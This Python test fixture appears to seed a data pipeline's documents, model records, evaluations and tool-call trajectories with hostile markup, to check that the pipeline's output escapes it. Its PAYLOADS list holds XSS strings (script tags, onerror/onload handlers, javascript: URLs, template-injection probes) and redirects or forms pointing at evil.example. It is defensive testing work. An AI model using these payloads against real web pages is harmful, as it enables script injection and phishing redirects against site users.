"""Text that tries to become markup, and a lineage in which it stands wherever text of others can stand."""

from pathlib import Path

from gem_tasks.dataset.publish import publish
from gem_tasks.domain.distill import Model
from gem_tasks.domain.evaluation import CaseScore, EvalReport, RunSettings
from gem_tasks.domain.finding import Finding, Severity
from gem_tasks.domain.judgement import RULES, Judgement, Verdict
from gem_tasks.domain.outcome import Accepted, Cost, Outcome
from gem_tasks.domain.plan import CHOICES, Plan
from gem_tasks.domain.record import Topic
from gem_tasks.domain.stage import STAGE_NAMES
from gem_tasks.domain.trajectory import Draft, Message, ToolCall, Trajectory
from gem_tasks.domain.workflow import ExecutionGraph, Extraction, PlannedCall, ToolSpec, Workflow
from gem_tasks.errors import ErrorClass
from gem_tasks.evals import registry
from gem_tasks.evals.stats import average
from gem_tasks.lineage import RunContext
from gem_tasks.pipeline.ingest.source import ingest
from gem_tasks.pipeline.shard.records import segments_of
from gem_tasks.store import keys, shards
from tests.console import hostile_world

PAYLOADS = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    "</title></textarea></pre></details><svg/onload=window.pwned=1>",
    "</script><script>window.pwned=1</script>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<a href="javascript:window.pwned=1">click</a>',
    "javascript:window.pwned=1",
    "{{ ''.__class__ }} {% raw %} ${7*7} {{constructor.constructor('window.pwned=1')()}}",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/"><link rel=stylesheet href="http://evil.example/x.css">',
    "<style>main{display:none}</style>",
    '<form action="http://evil.example/"><button>retry</button></form>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u202e<b>turned\u202c <!-- <![CDATA[ ]]>",
)
ALL = " ".join(PAYLOADS)
PARTITION = "2026-11-01T10:00"
RUN = RunContext(run_id="asset_triggered__<img src=x onerror=window.pwned=1>", task_id="filter.run", map_index=0,
                 try_number=1)  # fmt: skip
BODY = "1. Find the loan.\n2. Renew it, at most twice.\n3. Tell the reader the new date.\n" * 8


def fill(work, folder):
    """Documents, outcomes of every stage, failures, refusals and a dataset, all of it hostile."""
    folder.mkdir()
    for number, payload in enumerate(PAYLOADS):
        name = "".join(letter for letter in payload if letter not in "/\0\n")[:60]
        (folder / f"{number:02d} {name}.md").write_text(f"# {payload}\n\n{ALL}\n\n{BODY}{number}", encoding="utf-8")
    (folder / "empty.txt").write_text("")
    ingest(work, str(folder), PARTITION, None)
    with work.ledger() as ledger:
        ledger.stages.record_recipes(work.chain.prompt_texts(), work.chain.recipes)
        numbers = [number for number, _ in ledger.ingestion.shards(PARTITION)]
    for shard in numbers:
        segments = [segment.segment_id for segment in segments_of(work, PARTITION, shard)]
        for stage in STAGE_NAMES:
            save(work, stage, shard, [outcome(stage, *each) for each in going(stage, segments)])
    compete(work)
    published = list(segments_of(work, PARTITION, numbers[0]))[2]
    hostile_world.fill(work, PARTITION, numbers[0], published, PAYLOADS, "Renew it, at most twice.")
    return publish(work, PARTITION)


def compete(work):
    """Two models whose names and reasons come from strangers, their evaluations, and a decision."""
    names = (PAYLOADS[0], PAYLOADS[1])
    with work.ledger() as ledger:
        for number, name in enumerate(names):
            ledger.distill.record_model(
                Model(
                    model_id=f"model{number:011d}", name=name, base=ALL, profile=name, profile_sha256="0", set_id=None,
                    location=ALL, metrics={"rows": 7, "steps": 30, "loss": 2.5, "validation_loss": ALL},
                )
            )  # fmt: skip
    for number, name in enumerate(names):
        cases = tuple(
            CaseScore(case_id=f"{case} {ALL}", category="multi_turn_base", score=float(case < 3 + 40 * number))
            for case in range(60)
        )
        settings = RunSettings(version=ALL, subset="full")
        report = EvalReport(
            harness="bfcl", model=name, scores=average(cases), cases=cases, settings=settings, seconds=9, measures={}
        )
        registry.record(work, report, Path(work.settings.home), f"model{number:011d}")
    with work.ledger() as ledger:
        registry.decide(ledger, "model00000000001", against="model00000000000")
        registry.override(ledger, "model00000000000", "rejected", ALL, ALL)


def going(stage, segments):
    """Segments with their places: every fourth fails in generate, and the one after it is refused, and once more."""
    if stage in ("revise", "revalidate"):
        return [(place, segment) for place, segment in enumerate(segments) if place % 4 == 1]
    late = STAGE_NAMES.index(stage) > STAGE_NAMES.index("generate")
    return [(place, segment) for place, segment in enumerate(segments) if not (late and place % 4 == 0)]


def save(work, stage, shard, outcomes):
    recipe = work.chain.by_stage[stage]
    key = keys.stage_key(stage, recipe.recipe_id, PARTITION, shard)
    work.store.put(key, shards.encode_outcomes(outcomes))
    with work.ledger() as ledger:
        ledger.stages.commit_outcomes(recipe, PARTITION, shard, outcomes, key, RUN)


def outcome(stage, place, segment):
    cost = Cost(calls=1, usd=0.01)
    if stage == "generate" and place % 4 == 0:
        return Outcome(
            segment_id=segment, kind="failed", error_class=ErrorClass.MALFORMED, detail=ALL, raw=ALL, cost=cost
        )
    if stage in ("validate", "revalidate") and place % 4 == 1:
        return Outcome(segment_id=segment, kind="rejected", reason="check_grounding", detail=ALL, cost=cost)
    made = Accepted.of(OUTPUTS[stage])
    return Outcome(segment_id=segment, kind="accepted", payload=made.payload, measures=made.measures, cost=cost)


def _tool(name):
    schema = {"type": "object", "properties": {ALL: {"type": "string", "description": ALL}}}
    return ToolSpec(name=name, description=ALL, parameters=schema)


TOOLS = tuple(_tool(payload) for payload in PAYLOADS)
TALK = Trajectory(
    tools=TOOLS,
    messages=(
        Message(role="system", content=ALL),
        Message(role="user", content=ALL),
        Message(
            role="assistant",
            content=ALL,
            tool_calls=tuple(
                ToolCall(id=f"call_{number}", name=payload, arguments={payload: ALL})
                for number, payload in enumerate(PAYLOADS)
            ),
        ),
        *(
            Message(role="tool", content=payload, tool_call_id=f"call_{number}")
            for number, payload in enumerate(PAYLOADS)
        ),
        Message(role="tool", content=ALL, tool_call_id="nobody asked"),
        Message(role="assistant", content=ALL),
    ),
)
_FINDING = Finding(check="claims", severity=Severity.WARNING, detail=ALL, message_index=1, json_path=ALL, kind="odd")
_VERDICT = Verdict(fault=False, quote=ALL, reason=ALL)
PLAN = Plan(
    choices=dict.fromkeys(CHOICES, ALL),
    patterns=(ALL,),
    messages=1,
    user_turns=1,
    words=dict.fromkeys(PAYLOADS, ALL),
)
OUTPUTS = {
    "filter": Topic(summary=ALL, platform="operator", domains=("finance",), task_category="search"),
    "extract": Extraction(
        workflows=(
            Workflow(
                description=ALL,
                steps=(ALL,),
                execution_graph=ExecutionGraph(nodes=((PAYLOADS[0],),)),
                actions=(PlannedCall(name=PAYLOADS[0], arguments={ALL: ALL}),),
                tools=TOOLS,
            ),
        )
    ),
    "generate": Draft(tools=TALK.tools, messages=TALK.messages, plan=PLAN),
    "refine": TALK,
    "revise": TALK,
    "validate": Judgement(
        rules={rule: _VERDICT.model_copy(update={"fault": rule == "R1"}) for rule in RULES},
        warnings=(_FINDING, _FINDING.model_copy(update={"message_index": None}),
                  _FINDING.model_copy(update={"message_index": 4})),
    ),
}  # fmt: skip
